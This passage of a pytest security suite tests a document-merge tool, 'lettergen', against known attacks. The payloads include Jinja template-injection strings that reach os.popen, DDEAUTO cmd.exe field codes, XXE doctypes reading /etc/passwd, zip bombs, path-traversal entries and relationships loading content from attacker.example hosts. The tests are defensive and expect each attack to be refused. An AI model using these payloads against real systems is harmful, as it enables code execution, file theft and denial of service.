"""Known attacks on Jinja, docxtpl and readers of Office Open XML, each refused or without effect.

The payloads for templates are those of the collections that testers use; those for documents and
data are the classes that OWASP and the makers of such readers describe.
"""

import io
import struct
import subprocess
import sys
import time
import zipfile
from itertools import pairwise
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from lxml import etree

from lettergen.api import Options, render
from lettergen.citations import references as citations
from lettergen.data import text_file
from lettergen.data import yaml as source
from lettergen.data.values import Sequence
from lettergen.diagnostics.finding import LettergenError, Place
from lettergen.docx import package_reader
from tests.support import documents, letters
from tests.support.campaigns import copy_campaign
from tests.support.wordprocessingml import problems


def _codes(error: LettergenError) -> set[str]:
    return {finding.code for finding in error.findings}


def _values(**more: Any) -> dict[str, Any]:
    books = Sequence(Place("recipients.yaml", 1))
    books.extend(["one", "two"])
    books.lines = [1, 1]
    return {"x": "value", "books": books, "day": "2020-10-13", **more}


def _letter(template: str) -> bytes:
    """A Word document that holds a template in one paragraph, merged."""
    return documents.merge_body(documents.build_paragraph(escape(template)), _values())


# Templates that reach for Python: server-side template injection


_OUT_OF_REACH = r"""
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ ().__class__.__base__.__subclasses__() }}
{{ x.__class__ }}
{{ x['__class__'] }}
{{ x|attr('__class__') }}
{{ x|attr('\x5f\x5fclass\x5f\x5f') }}
{{ x|attr('__cl' ~ 'ass__') }}
{{ ''|attr(['_' * 2, 'class', '_' * 2]|join) }}
{{ [x]|map(attribute='__class__')|list }}
{{ [x]|map('attr', '__class__')|list }}
{{ [x]|sort(attribute='__class__') }}
{{ [x]|groupby('__class__') }}
{{ [x]|sum(attribute='__class__') }}
{{ [x]|selectattr('__class__')|list }}
{{ [x]|join(',', attribute='__class__') }}
{{ [x]|unique(attribute='__class__')|list }}
{{ '{0.__class__}'.format(x) }}
{{ '{0.__class__.__init__.__globals__}'.format(cite) }}
{{ ('{0.__class__}'|attr('format'))(x) }}
{{ '{x.__class__}'.format_map({'x': 1}) }}
{{ '{0[__class__]}'.format(x) }}
{{ '%(a)s'|format(a=x.__class__) }}
{{ x.__getattribute__('__class__') }}
{{ cite.__globals__ }}
{{ cite['__globals__'] }}
{{ cite|attr('__globals__') }}
{{ link.__code__ }}
{{ self.__init__.__globals__ }}
{{ self._TemplateReference__context }}
{{ namespace.__init__.__globals__.os.popen('id').read() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ joiner.__init__.__globals__ }}
{{ dict.__mro__ }}
{{ dict.mro() }}
{{ recipient.__class__ }}
{{ (books|map('upper')).gi_frame.f_globals }}
{{ (books|map('upper')).gi_code }}
{% for i in books %}{{ loop.__class__ }}{% endfor %}
{% for i in books %}{{ loop._iterator.gi_frame }}{% endfor %}
{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}
{% macro m() %}{% endmacro %}{{ m.__call__ }}
{{ x.encode() }}
{{ x.translate({1: 2}) }}
{{ (1).to_bytes(99999999, 'big') }}
""".strip().splitlines()

_UNKNOWN = r"""
{{ lipsum.__globals__['os'].popen('id').read() }}
{{ config.items() }}
{{ request.application.__globals__ }}
{{ get_flashed_messages.__globals__ }}
{{ url_for.__globals__ }}
{{ open('/etc/passwd').read() }}
{{ __import__('os') }}
{{ range.__self__ }}
""".strip().splitlines()

_NO_STATEMENT = r"""
{% include '/etc/passwd' %}
{% import 'os' as os %}
{% from 'os' import system %}
{% extends 'base.docx' %}
{% block a %}{% endblock %}
{% do books.append(1) %}
{% debug %}
{% autoescape false %}{{ x }}{% endautoescape %}
""".strip().splitlines()

_OWN_NAMES = r"""
{{ lettergen_letter.add_inline }}
{{ lettergen_run }}
{{ lettergen_note }}
{{ x|lettergen_run(0) }}
{{ x|lettergen_field(0) }}
{{ lettergen_reached(0) }}
{{ lettergen_begin_list(1, 1) }}
{{ x|lettergen_measure }}
{{ x|map('lettergen_run', 0)|list }}
""".strip().splitlines()

_NO_FILTER = ["tojson", "xmlattr", "pprint", "urlize", "forceescape", "striptags", "random"]


@pytest.mark.parametrize("template", _OUT_OF_REACH)
def test_a_template_cannot_reach_pythons_internals(template: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(template)
    assert _codes(refused.value) == {"LG310"}


@pytest.mark.parametrize("template", _UNKNOWN)
def test_what_other_programs_give_to_templates_is_not_there(template: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(template)
    assert _codes(refused.value) == {"LG301"}


@pytest.mark.parametrize("template", _NO_STATEMENT)
def test_a_template_cannot_load_another_or_switch_escaping_off(template: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(template)
    outside = "include" in template  # a passage must be in the campaign's folder
    assert _codes(refused.value) == {"LG385" if outside else "LG203"}


@pytest.mark.parametrize("template", _OWN_NAMES)
def test_a_template_cannot_call_what_lettergen_keeps_for_itself(template: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(template)
    assert _codes(refused.value) == {"LG208"}


@pytest.mark.parametrize("name", _NO_FILTER)
def test_filters_that_no_letter_needs_are_not_there(name: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(f"{{{{ x|{name} }}}}")
    assert _codes(refused.value) == {"LG207"}


@pytest.mark.parametrize(
    "template",
    ["{{ cite }}", "{{ self }}", "{{ range }}", "{{ namespace() }}", "{{ cycler(1) }}"],
)
def test_an_object_that_is_no_value_is_not_printed(template: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(template)
    assert _codes(refused.value) == {"LG306"}


@pytest.mark.parametrize(
    "change",
    [
        "recipient.update({'x': 'changed'})",
        "recipient.clear()",
        "recipient.pop('x')",
        "recipient.setdefault('y', 1)",
        "books.append('three')",
        "books.clear()",
        "books.sort()",
        "books.extend(['three'])",
    ],
)
def test_a_letter_cannot_change_the_data_of_the_next_one(change: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(f"{{{{ {change} }}}}")
    assert _codes(refused.value) == {"LG310"}


def test_the_expressions_of_a_campaign_are_in_the_sandbox_too(tmp_path: Path) -> None:
    folder = copy_campaign("concert", tmp_path)
    with pytest.raises(LettergenError) as refused:
        render(folder, Options(where=["''.__class__.__mro__"], dry_run=True))
    assert _codes(refused.value) == {"LG310"}
    campaign = folder / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8")
    output = next(line for line in text.splitlines() if line.startswith("output:"))
    for pattern in ("{{ ''.__class__ }}", "{{ cite.__globals__ }}", "{% include 'x' %}"):
        campaign.write_text(text.replace(output, f'output: "letters/{pattern}.docx"'), "utf-8")
        report = render(folder, Options(dry_run=True))
        assert {str(result.outcome) for result in report.results} == {"failed"}


# Templates that use up the machine


_BOMBS = [
    # loops
    ("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}", "LG311"),
    ("{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}", "LG312"),
    ("{% for a in range(999999999) %}{% endfor %}", "LG313"),
    ("{% for i in range(99999) %}{{ 'x' * 1000 }}{% endfor %}", "LG312"),
    ("{% for i in range(99999) %}{{ link('x', 'https://a.b/' ~ i) }}{% endfor %}", "LG312"),
    ("{% set n = note('x' * 9000) %}{{ ([n] * 9999)|join }}", "LG312"),
    # operators
    ("{{ 'x' * 10**9 }}", "LG313"),
    ("{{ 10**9 * 'x' }}", "LG313"),
    ("{{ [1] * 10**9 }}", "LG313"),
    ("{{ [[1] * 1000] * 1000 * 1000 }}", "LG313"),
    ("{{ 2**99999 }}", "LG313"),
    ("{{ 9**(9**9) }}", "LG313"),
    # formats
    ("{{ '%1000000000d' % 1 }}", "LG313"),
    ("{{ '%*d' % (1000000000, 1) }}", "LG313"),
    ("{{ '%.999999999f' % 1 }}", "LG313"),
    ("{{ '%1000000000d'|format(1) }}", "LG313"),
    ("{{ '{:1000000000}'.format(1) }}", "LG313"),
    ("{{ '{:{w}}'.format(1, w=1000000000) }}", "LG325"),
    ("{{ ('{0}' * 100000).format('x' * 100000) }}", "LG313"),
    ("{{ ('%s' * 1000) % (('x' * 100000,) * 1000) }}", "LG313"),
    # padding
    ("{{ 'x'.center(1000000000) }}", "LG313"),
    ("{{ 'x'.ljust(1000000000) }}", "LG313"),
    ("{{ 'x'.rjust(1000000000) }}", "LG313"),
    ("{{ '1'.zfill(1000000000) }}", "LG313"),
    ("{{ ('\\t' * 100000).expandtabs(9999) }}", "LG313"),
    ("{{ 'x'|center(1000000000) }}", "LG313"),
    ("{{ 'x'|indent(1000000000) }}", "LG313"),
    ("{{ ('\\n' * 99999)|indent(9999) }}", "LG313"),
    ("{{ ('a ' * 100000)|wordwrap(1, true, 'y' * 100000) }}", "LG313"),
    # joining and replacing
    ("{{ ('x' * 100000)|replace('x', 'y' * 100000) }}", "LG313"),
    ("{{ ('x' * 100000).replace('', 'y' * 100000) }}", "LG313"),
    ("{{ ('y' * 100000).join(['x'] * 100000) }}", "LG313"),
    ("{{ range(99999)|join('y' * 100000) }}", "LG313"),
    ("{{ (['x' * 100000] * 1000)|join }}", "LG313"),
    ("{{ range(99999)|map('center', 9999)|join }}", "LG312"),
    # lists
    ("{{ [1]|batch(1000000000, 'x')|list }}", "LG313"),
    ("{{ [1]|slice(1000000000)|list }}", "LG313"),
    ("{{ [[1], [2]]|sum(start=[]) }}", "LG325"),
    ("{{ 1|round(1000000000, 'ceil') }}", "LG313"),
    # calls without end
    ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "LG314"),
    ("{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}", "LG314"),
    (
        "{% macro m(n) %}{% if n %}{{ m(n - 1) ~ m(n - 1) }}{% endif %}{% endmacro %}{{ m(40) }}",
        "LG312",
    ),
    ("{% for i in [1] recursive %}{{ loop([1]) }}{% endfor %}", "LG314"),
    # values that double
    *(
        (
            f"{{% set ns = namespace(x={start}) %}}{{% for i in range(90) %}}"
            f"{double}{{% endfor %}}{{{{ ns.x|string }}}}",
            code,
        )
        for start, double, code in [
            ("'x'", "{% set ns.x = ns.x ~ ns.x %}", "LG313"),
            ("'x'", "{% set ns.x = ns.x + ns.x %}", "LG313"),
            ("'x'", "{% set ns.x %}{{ ns.x }}{{ ns.x }}{% endset %}", "LG312"),
            ("[1]", "{% set ns.x = ns.x + ns.x %}", "LG313"),
            ("[1]", "{% set ns.x = [ns.x, ns.x] %}", "LG313"),
            ("[1]", "{% set ns.x = (ns.x, ns.x) %}", "LG313"),
            ("[1]", "{% set ns.x = {'a': ns.x, 'b': ns.x} %}", "LG313"),
            ("[1]", "{% set ns.x = dict(a=ns.x, b=ns.x) %}", "LG313"),
            ("2", "{% set ns.x = ns.x * ns.x %}", "LG313"),
        ]
    ),
]


@pytest.mark.slow
@pytest.mark.parametrize(("template", "code"), _BOMBS)
def test_a_template_that_would_use_up_the_machine_is_stopped(template: str, code: str) -> None:
    started = time.process_time()
    with pytest.raises(LettergenError) as refused:
        _letter(template)
    assert _codes(refused.value) == {code}
    assert "paragraph 1" in str(refused.value), "it does not say where"
    assert time.process_time() - started < 9, "what stopped it is the clock"


_IN_LITTLE_MEMORY = """
import resource
resource.setrlimit(resource.RLIMIT_AS, (768 * 1024 * 1024,) * 2)
from tests.test_attacks import _BOMBS, _letter, LettergenError
for template, _ in _BOMBS[::4]:
    try:
        _letter(template)
    except LettergenError as error:
        assert "memory" not in str(error).lower(), template
print('done')
"""


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="only Linux bounds a process's memory")
def test_all_that_a_template_may_use_up_fits_into_little_memory() -> None:
    command = [sys.executable, "-c", _IN_LITTLE_MEMORY]
    folder = Path(__file__).parent.parent
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    assert (done.stdout, done.returncode) == ("done\n", 0), done.stderr


@pytest.mark.slow
def test_a_template_that_computes_and_computes_is_stopped_by_the_clock(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("lettergen.template.jinja.limits.MAX_SECONDS", 0.2)
    slow = "{% set a = range(99999)|list %}{% for i in range(99999) %}{{ -1 in a }}{% endfor %}"
    with pytest.raises(LettergenError) as refused:
        _letter(slow)
    assert _codes(refused.value) == {"LG315"}


@pytest.mark.slow
@pytest.mark.parametrize(
    "template",
    [
        "{% for a in books %}" * 30 + "x" + "{% endfor %}" * 30,
        "{% if x %}" * 200 + "x" + "{% endif %}" * 200,
        "{{ " + "(" * 2000 + "1" + ")" * 2000 + " }}",
        "{{ " + "1+" * 2000 + "1 }}",
        "{{ " + "[" * 2000 + "]" * 2000 + " }}",
        "{{ " + "not " * 1000 + "x }}",
        "{{ x" + "|upper" * 700 + " }}",
        "{{ " + "1" * 4900 + " }}",
        "{{" * 5000,
        "{{ '\\'}}" * 5000,
        "{% raw %}" * 5000,
        "{{ x }}" * 5000,
    ],
    ids=lambda template: template[:12],
)
def test_a_template_that_no_compiler_could_take_is_a_finding(template: str) -> None:
    with pytest.raises(LettergenError) as refused:
        _letter(template)
    assert _codes(refused.value) <= {"LG201", "LG202", "LG260", "LG266"}


@pytest.mark.slow
def test_the_bombs_work_in_markdown_letters_no_more_than_in_word_documents(tmp_path: Path) -> None:
    for template, code in _BOMBS[:8]:
        letter = letters.compile_text(template, tmp_path)
        with pytest.raises(LettergenError) as refused:
            letters.merge(letter, _values())
        assert _codes(refused.value) == {code}


# Archives


def _archive(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A good document with further entries."""
    buffer = io.BytesIO(documents.pack("plain"))
    with zipfile.ZipFile(buffer, "a", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def _refused(data: bytes) -> set[str]:
    with pytest.raises(LettergenError) as refused:
        documents.compile_document(data)
    return _codes(refused.value)


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = _archive(("word/media/image.bin", bytes(60_000_000)))
    assert len(bomb) < 100_000
    assert _refused(bomb) == {"LG261"}


def test_many_small_bombs_are_one() -> None:
    parts = [(f"word/media/{number}.bin", bytes(399_999)) for number in range(300)]
    assert _refused(_archive(*parts)) == {"LG260"}


def test_an_archive_of_a_great_many_entries_is_refused() -> None:
    assert _refused(_archive(*((f"a/{n}.bin", b"") for n in range(2001)))) == {"LG260"}


def test_an_archive_that_lies_about_its_sizes_is_refused() -> None:
    bomb = bytearray(_archive(("word/media/image.bin", bytes(60_000_000))))
    record = bomb.rfind(b"PK\1\2")
    bomb[record + 24 : record + 28] = struct.pack("<L", 1000)
    assert _refused(bytes(bomb)) == {"LG210"}


def test_entries_that_share_their_bytes_are_counted_one_by_one() -> None:
    """As in David Fifield's bomb: each entry of the directory leads to the same data."""
    data = documents.pack("plain")
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x.bin", bytes(390_000))
        first = archive.getinfo("x.bin")
        for number in range(300):
            other = zipfile.ZipInfo(f"x{number}.bin")
            for name in ("CRC", "compress_size", "file_size", "compress_type", "header_offset"):
                setattr(other, name, getattr(first, name))
            archive.filelist.append(other)
        archive._didModify = True  # type: ignore[attr-defined]
    assert _refused(buffer.getvalue()) == {"LG260"}


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/cron.d/x",
        "word/../../x.xml",
        "/etc/passwd",
        "..\\..\\x.xml",
        "C:/x.xml",
        "C:\\x.xml",
        "word//x.xml",
        "word/./x.xml",
        "word/x\n.xml",
    ],
)
def test_a_part_whose_name_leads_elsewhere_is_refused(name: str) -> None:
    assert _refused(_archive((name, b"<x/>"))) == {"LG261"}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", ["word/document.xml", "WORD/Document.xml"])
def test_a_part_that_stands_twice_is_refused(name: str) -> None:
    assert _refused(_archive((name, b"<x/>"))) == {"LG261"}


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_method_of_packing_that_word_never_uses_is_refused(method: int) -> None:
    assert _refused(_archive(("x.bin", b"x" * 100), method=method)) == {"LG261"}


def test_an_encrypted_part_is_refused() -> None:
    data = bytearray(_archive(("x.bin", b"x")))
    record = data.rfind(b"PK\1\2")
    data[record + 8] |= 1
    assert _refused(bytes(data)) == {"LG210"}


def test_a_file_larger_than_any_letter_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "letter.docx"
    with path.open("wb") as file:
        file.truncate(package_reader.MAX_FILE + 1)
    with pytest.raises(LettergenError) as refused:
        package_reader.read_document(path)
    assert _codes(refused.value) == {"LG260"}


# XML


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:1/x"> %e;]>',
        '<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">',
        '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://127.0.0.1:1/x.dtd">',
        f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>',
        '<!DOCTYPE x [<!ATTLIST x a CDATA "default">]>',
        "<!DOCTYPE x>",
    ],
    ids=["file", "parameter", "external", "public", "laughs", "defaults", "empty"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "part", ["document", "styles", "core", "[Content_Types]", "unused", "unused.bin"]
)
def test_a_document_type_is_refused_in_every_part(doctype: str, encoding: str, part: str) -> None:
    found = documents.load_parts("plain")
    name = next((name for name in found if Path(name).stem == part), f"word/{part}.xml")
    name = name.removesuffix(".xml") if part.endswith(".bin") else name
    text = found.get(name, b"<x/>").decode().partition("?>")[2] or "<x/>"
    declared = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{text}'
    assert _refused(documents.zip_parts(found | {name: declared.encode(encoding)})) == {"LG263"}


def test_an_external_entity_is_never_read(tmp_path: Path) -> None:
    """Should the refusal ever fail, the parser still reads nothing that it is pointed to."""
    secret = tmp_path / "secret"
    secret.write_text("secret words", encoding="utf-8")
    text = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]><x>&e;</x>'
    root = etree.fromstring(text, etree.XMLParser(resolve_entities=False, no_network=True))
    assert "secret words" not in etree.tostring(root, encoding="unicode")


def test_xml_nested_without_end_is_refused() -> None:
    deep = documents.build_body("<w:p>" * 10_000 + "</w:p>" * 10_000)
    assert _refused(documents.pack("bare", document=deep)) <= {"LG262", "LG212"}


def test_a_part_of_a_great_many_elements_is_refused() -> None:
    many = documents.build_body("<w:p/>" * 100_001).encode()
    found = documents.load_parts("plain") | {documents.MAIN: many}
    assert _refused(documents.zip_parts(found)) == {"LG260"}


def test_a_part_in_an_odd_encoding_is_refused() -> None:
    text = '<?xml version="1.0" encoding="utf-7"?><x/>'
    assert _refused(_archive(("word/x.xml", text.encode()))) == {"LG212"}


# What a document brings along


def _related(kind: str, target: str, *, external: bool) -> bytes:
    """A good document whose main part has one relationship more."""
    found = documents.load_parts("plain")
    name = "word/_rels/document.xml.rels"
    mode = ' TargetMode="External"' if external else ""
    type_ = kind if "://" in kind else f"{documents.R}/{kind}"
    more = f'<Relationship Id="rId999" Type="{type_}" Target="{target}"{mode}/></Relationships>'
    rels = found[name].decode().replace("</Relationships>", more)
    return documents.zip_parts(found | {name: rels.encode()})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://tracker.example/pixel.png"),
        ("image", "file:///etc/passwd"),
        ("image", "\\\\attacker\\share\\x.png"),
        ("oleObject", "file:///C:/x.xlsx"),
        ("subDocument", "http://attacker.example/x.docx"),
        ("frame", "http://attacker.example/"),
        ("aFChunk", "http://attacker.example/x.html"),
        ("header", "http://attacker.example/header.xml"),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "http://x.example/"),
    ],
)
def test_a_document_that_loads_a_part_of_itself_from_elsewhere_is_refused(
    kind: str, target: str
) -> None:
    assert _refused(_related(kind, target, external=True)) == {"LG264"}


@pytest.mark.parametrize(
    "target",
    [
        "file:///etc/passwd",
        "\\\\attacker\\share",
        "javascript:alert(1)",
        "data:text/html,x",
        "ms-msdt:/id PCWDiagnostic",
        "search-ms:query=x",
        "vbscript:x",
        "../../other.docx",
        " file:///etc/passwd",
    ],
)
def test_a_document_that_links_to_what_it_should_not_is_refused(target: str) -> None:
    assert _refused(_related("hyperlink", target, external=True)) == {"LG305"}


@pytest.mark.parametrize(
    "kind",
    [
        "aFChunk",
        "oleObject",
        "control",
        "subDocument",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations",
        "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
    ],
)
def test_a_document_that_holds_what_runs_is_refused(kind: str) -> None:
    assert _refused(_related(kind, "embedded.bin", external=False)) == {"LG264"}


@pytest.mark.parametrize(
    "kind",
    [
        "package",
        "video",
        "http://schemas.microsoft.com/office/2011/relationships/webextension",
        "http://schemas.microsoft.com/office/2030/relationships/newThing",
        "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
        "mailMergeSource",
    ],
)
def test_a_document_with_what_lettergen_does_not_know_is_refused(kind: str) -> None:
    assert _refused(_related(kind, "embedded.bin", external=False)) == {"LG264"}


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        ("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"),
        ("word/book.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("word/page.html", "text/html"),
        ("word/media/image1.bin", "application/octet-stream"),
    ],
)
def test_a_part_that_nothing_refers_to_is_refused_by_its_content_type(name: str, kind: str) -> None:
    found = documents.load_parts("plain")
    types = found["[Content_Types].xml"].decode()
    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    found["[Content_Types].xml"] = types.replace("</Types>", override).encode()
    assert _refused(documents.zip_parts(found | {name: b"x"})) == {"LG264"}


@pytest.mark.parametrize("target", ["https://example.org/", "mailto:a@example.org", "tel:+44"])
def test_a_document_may_link_to_the_web(target: str) -> None:
    letter = documents.compile_document(_related("hyperlink", target, external=True))
    docx = documents.merge(letter, {"name": "Ada"})
    assert problems(docx) == []


@pytest.mark.parametrize(
    "target", ["http://attacker.example/x.dotm", "file:///C:/Users/x/Normal.dotm"]
)
def test_a_letter_is_attached_to_no_template(target: str) -> None:
    """Word loads an attached template, and runs its macros, when a letter is opened."""
    settings = (
        f'<w:settings xmlns:w="{documents.W}" xmlns:r="{documents.R}">'
        '<w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/></w:settings>'
    )
    rels = (
        f'<Relationships xmlns="{documents.OPC}/relationships"><Relationship Id="rId1"'
        f' Type="{documents.R}/attachedTemplate" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    found = documents.load_parts("plain", settings=settings)
    name = "word/_rels/settings.xml.rels"
    letter = documents.compile_document(documents.zip_parts(found | {name: rels.encode()}))
    docx = documents.merge(letter, {"name": "Ada"})
    everything = b"".join(documents.unzip(docx).values())
    assert b"attachedTemplate" not in everything
    assert target.encode() not in everything
    assert b"defaultTabStop" in everything
    assert problems(docx) == []


# Data


_FIELD_CODES = [
    '=cmd|"/c calc"!A1',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    '{ DDEAUTO excel "x" }',
    "INCLUDETEXT file:///etc/passwd",
    '{ INCLUDEPICTURE "http://tracker.example/x.png" }',
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    "<w:instrText> DDEAUTO </w:instrText>",
    '<w:fldSimple w:instr="DDEAUTO x"/>',
    "]]><w:p/><![CDATA[",
    "<!--",
    "<?lettergen?>",
    "<?footnote 0?>",
    "<?droppable?>",
    "&lt;w:p/&gt;",
    "&#60;w:p/&#62;",
    "{{ x }}{% for %}{# #}",
    "{{ ''.__class__ }}",
    '" onclick="x',
]


@pytest.mark.parametrize("value", _FIELD_CODES)
def test_a_value_is_only_ever_text(value: str, tmp_path: Path) -> None:
    inner = documents.build_paragraph("[{{ x }}]") + documents.build_paragraph("{{ note(x) }}")
    docx = documents.merge_body(inner, {"x": value})
    assert documents.read_paragraphs(docx)[0] == f"[{value}]"
    assert documents.read_footnotes(docx)[0].endswith(value)
    assert [said for said in problems(docx) if "template text left over" not in said] == []
    main = documents.parse_part(docx)
    assert not list(main.iter(f"{{{documents.W}}}instrText", f"{{{documents.W}}}fldSimple"))
    markdown = letters.compile_text("[{{ x }}]", tmp_path)
    assert letters.read_paragraphs(letters.merge(markdown, {"x": value})) == [f"[{value}]"]


_QUOTES = {'"': "&quot;"}


def _field(code: str) -> str:
    """A paragraph with a field of Word's."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    run = f'<w:r><w:instrText xml:space="preserve">{escape(code)}</w:instrText></w:r>'
    return f"<w:p>{mark('begin')}{run}{mark('separate')}{mark('end')}</w:p>"


@pytest.mark.parametrize(
    "code",
    [
        ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" ',
        " ddeauto excel x ",
        " DDE excel x ",
        ' INCLUDETEXT "file:///etc/passwd" ',
        ' INCLUDEPICTURE "http://tracker.example/x.png" \\d ',
        " INCLUDE x ",
        " IMPORT x ",
        " LINK Excel.Sheet.8 x ",
        " DATABASE \\d x ",
        " RD x.docx ",
        " MACROBUTTON run Click ",
        " PRINT x ",
        " {{ x }} ",
        " DDE{{ x }} excel ",
        ' IF 1 = 1 "{{ x }}" "" \\* DDE ',
    ],
)
def test_a_template_whose_fields_fetch_or_run_something_is_refused(code: str) -> None:
    simple = f'<w:p><w:fldSimple w:instr="{escape(code, _QUOTES)}"/></w:p>'
    for field in (_field(code), simple):
        with pytest.raises(LettergenError) as refused:
            documents.merge_body(field, {"x": "AUTO"})
        assert _codes(refused.value) <= {"LG230", "LG231", "LG232", "LG234", "LG235", "LG236"}


@pytest.mark.parametrize(
    "value",
    [
        '" \\* MERGEFORMAT',
        'x" \\o "y',
        "\\\\attacker\\share\\x",
        "{ DDEAUTO x }",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "ms-msdt:/id",
        "x” y",
    ],
)
def test_a_value_in_the_code_of_a_field_cannot_change_the_field(value: str) -> None:
    simple = '<w:p><w:fldSimple w:instr=" QUOTE &quot;{{ x }}&quot; "/></w:p>'
    for field in (_field(' QUOTE "{{ x }}" '), simple):
        with pytest.raises(LettergenError) as refused:
            documents.merge_body(field, {"x": value})
        assert _codes(refused.value) == {"LG316"}


@pytest.mark.parametrize("value", ["https://example.org/?a=b&c=d", "plain words", "Note: this"])
def test_a_value_in_the_code_of_a_field_is_text_there(value: str) -> None:
    docx = documents.merge_body(_field(' ADDIN "{{ x }}" '), {"x": value})
    codes = documents.parse_part(docx).iter(f"{{{documents.W}}}instrText")
    assert [code.text for code in codes] == [f' ADDIN "{value}" ']
    assert problems(docx) == []


_SHAPE = (
    '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml">'
    "<v:shape{}><v:imagedata{}/></v:shape></w:pict></w:r></w:p>"
)


@pytest.mark.parametrize(
    ("shape", "picture"),
    [
        ("", ' src="http://tracker.example/x.png"'),
        ("", ' src="file:///etc/passwd"'),
        ("", ' src="\\\\attacker\\share\\x.png"'),
        (' href="file:///etc/passwd"', ""),
        (' href="javascript:alert(1)"', ""),
    ],
)
def test_a_drawing_that_loads_or_links_to_what_it_should_not_is_refused(
    shape: str, picture: str
) -> None:
    main = documents.build_body(_SHAPE.format(shape, picture))
    assert _refused(documents.pack("plain", document=main)) == {"LG264"}


@pytest.mark.parametrize("attribute", [' href="{{ x }}"', ' src="{{ x }}"'])
def test_a_value_in_a_drawing_leads_to_the_web_only(attribute: str) -> None:
    with pytest.raises(LettergenError) as refused:
        documents.merge_body(_SHAPE.format(attribute, ""), {"x": "file:///etc/passwd"})
    assert _codes(refused.value) == {"LG316"}


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "\\\\attacker\\share",
        "//attacker.example/x",
        "ms-word:ofe|u|http://x",
        "vbscript:x",
        "ftp://x",
        "x",
        "",
    ],
)
def test_a_value_links_only_to_the_web_to_mail_and_to_telephones(
    address: str, tmp_path: Path
) -> None:
    with pytest.raises(LettergenError) as refused:
        documents.merge_body(documents.build_paragraph('{{ link("x", x) }}'), {"x": address})
    assert _codes(refused.value) == {"LG305"}
    with pytest.raises(LettergenError) as refused:
        letters.merge(letters.compile_text("[x]({{ x }})", tmp_path), {"x": address})
    assert _codes(refused.value) == {"LG305"}


def test_a_value_in_a_link_cannot_end_its_attribute(tmp_path: Path) -> None:
    value = 'https://a.example/"/><w:p/>'
    letter = letters.compile_text("[x]({{ x }})", tmp_path)
    docx = letters.merge(letter, {"x": value})
    assert problems(docx) == []
    assert len(documents.read_links(docx)) == 1


# Files of data


def _yaml(text: str, tmp_path: Path) -> set[str]:
    path = tmp_path / "data.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(LettergenError) as refused:
        source.load(path)
    return _codes(refused.value)


@pytest.mark.slow
def test_yaml_aliases_cannot_unfold_without_end(tmp_path: Path) -> None:
    names = "abcdefghij"
    lines = [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in pairwise(names)]
